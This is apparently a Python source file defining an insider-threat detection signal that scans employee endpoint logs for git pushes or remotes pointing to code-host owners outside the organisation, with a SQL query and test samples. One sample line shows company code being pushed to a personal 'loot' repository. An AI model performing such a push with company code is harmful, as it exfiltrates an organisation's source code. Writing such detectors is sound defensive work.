"""Company code pushed to, or a remote added for, a repository owner outside the organisation."""

from unmask.signals.base import Signal, lookalike, negative, obs, positive

# A remote URL on a code host, in https, ssh or scp form: (host, owner).
REMOTE = r"(?:https?://(?:[^@/ ]+@)?|ssh://git@|git@)(github\.com|gitlab\.com|bitbucket\.org)[/:]([a-z0-9_.-]+)/"

SIGNAL = Signal(
    id="push_to_foreign_remote",
    needs=("assets.devices", "hr.employees"),
    uses=("endpoint.sysmon", "endpoint.osquery", "code.audit"),
    strength="medium",
    family="code",
    description="A git push, remote add or remote set-url on the worker's laptop names a GitHub, GitLab or "
    "Bitbucket owner that is not the organisation's (org.code_owners and the code-audit log's owners) "
    "(medium: dotfiles and open-source work look alike).",
    reference="indicators.md §3.L exfil_repo_to_personal (push to non-org remotes, EDR command lines)",
    params=lambda cfg: {"owners": [o.lower() for o in cfg.code_owners], "remote": REMOTE},
    log_odds=1.0,
    basis=(
        "M: §3.L exfil_repo_to_personal is S only with other signals (G25); dotfiles and open-source work look "
        "alike."
    ),
    sql=r"""
WITH owners AS (
  SELECT unnest($owners::VARCHAR[]) AS owner
  UNION SELECT DISTINCT lower(split_part(repo, '/', 1)) FROM code_audit WHERE strpos(repo, '/') > 0
  UNION SELECT DISTINCT lower(org) FROM code_audit WHERE org IS NOT NULL
), cmd AS (
  SELECT employee_id, source_file, line, observed_at, hostname, text,
    regexp_extract(text, $remote, 1) AS host, regexp_extract(text, $remote, 2) AS owner
  FROM endpoint_obs
  WHERE item = 'process' AND regexp_matches(text, '\bgit(\.exe)?\b.*\b(push|remote add|remote set-url)\b')
)
SELECT 'employee' AS subject_type, employee_id AS subject_id, min({'f': source_file, 'l': line}).f AS source_file,
  min({'f': source_file, 'l': line}).l AS line, min(observed_at) AS observed_at,
  'git ' || CASE WHEN bool_or(text LIKE '%push%') THEN 'push to' ELSE 'remote for' END || ' ' || host || '/' || owner
    || ' on ' || min({'f': source_file, 'l': line, 'v': hostname}).v || ', an owner outside the organisation''s code ('
    || (SELECT string_agg(owner, ', ' ORDER BY owner) FROM owners) || ')' AS detail
FROM cmd
-- Without any known owner of the organisation's code, a foreign owner cannot be told.
WHERE owner <> '' AND owner NOT IN (SELECT owner FROM owners) AND EXISTS (SELECT 1 FROM owners)
GROUP BY employee_id, host, owner
""",
    samples=(
        positive("a push to an owner outside the organisation", {"endpoint_obs": [
            obs("E1", "process", "git.exe|c:\\git\\git.exe|git push https://github.com/devstar9/loot.git main"),
            obs("E2", "process", "git.exe|c:\\git\\git.exe|git push git@github.com:acme/app.git main"),
        ]}, {"E1": "medium"}, code_owners=["acme"]),
        negative("pushes to the organisation's code (owners from the audit log); no owner known", {
            "endpoint_obs": [obs("E1", "process", "git.exe|c:\\git\\git.exe|git push git@github.com:acme-labs/x.git"),
                             obs("E1", "process", "git.exe|c:\\git\\git.exe|git remote add origin "
                                 "https://github.com/acme/app.git")],
            "code_audit": [{"action": "git.push", "actor": "e1", "repo": "acme-labs/x"}],
        }, code_owners=["acme"]),
        lookalike("exfil_repo_to_personal: open-source work, cloning a public project is no push", {"endpoint_obs": [
            obs("E1", "process", "git.exe|c:\\git\\git.exe|git clone https://github.com/torvalds/linux.git"),
        ]}, code_owners=["acme"]),
    ),
)
